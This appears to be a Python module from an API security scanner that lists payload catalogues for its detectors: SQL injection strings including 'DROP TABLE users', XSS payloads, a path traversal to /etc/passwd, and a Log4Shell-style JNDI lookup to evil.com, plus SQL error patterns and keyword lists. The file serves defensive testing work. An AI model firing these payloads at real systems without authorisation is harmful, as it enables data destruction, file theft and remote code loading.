"""Ordered payload catalogues used by the dynamic detectors."""

import re

BOLA_TEST_IDS = ("1", "2", "999", "0", "-1", "admin", "test")

SQL_INJECTION_PAYLOADS = (
    "' OR '1'='1",
    "'; DROP TABLE users; --",
    "1' UNION SELECT NULL--",
    "' OR 1=1--",
    "admin'--",
    "' OR 'a'='a",
    '" OR "1"="1',
    "1' OR '1'='1'--",
    "1' OR '1'='1'/*",
    "') OR ('1'='1--",
)

XSS_PAYLOADS = (
    "<script>alert('XSS')</script>",
    "<img src=x onerror=alert('XSS')>",
    "javascript:alert('XSS')",
    "<svg onload=alert('XSS')>",
    "<body onload=alert('XSS')>",
    "<iframe src=javascript:alert('XSS')>",
    "<input onfocus=alert('XSS') autofocus>",
    "<select onfocus=alert('XSS') autofocus>",
    "<textarea onfocus=alert('XSS') autofocus>",
    "<keygen onfocus=alert('XSS') autofocus>",
)

THIRD_PARTY_PAYLOADS = (
    "<script>alert('XSS')</script>",
    "'; DROP TABLE users; --",
    "../../../etc/passwd",
    "${jndi:ldap://evil.com/a}",
)

SQL_ERROR_PATTERN = re.compile(
    r"sql syntax|mysql_fetch|mysql|postgresql|oracle error|ora-\d{4,5}|sqlite"
    r"|sql server|odbc|jdbc|database error",
    re.IGNORECASE,
)

THIRD_PARTY_SQL_PATTERN = re.compile(
    r"sql syntax|mysql|postgresql|sqlite|database error", re.IGNORECASE
)

BOLA_NEGATIVE_MARKERS = ("error", "not found", "404")

BUSINESS_FLOW_KEYWORDS = (
    "payment",
    "transfer",
    "purchase",
    "order",
    "product-agreement",
    "checkout",
    "booking",
    "withdraw",
    "reservation",
)

THIRD_PARTY_KEYWORDS = ("webhook", "callback", "external", "integration")

BOT_PROTECTION_MARKERS = ("captcha", "bot detected")

RATE_LIMIT_HEADERS = ("X-RateLimit-Limit", "X-RateLimit-Remaining", "Retry-After")
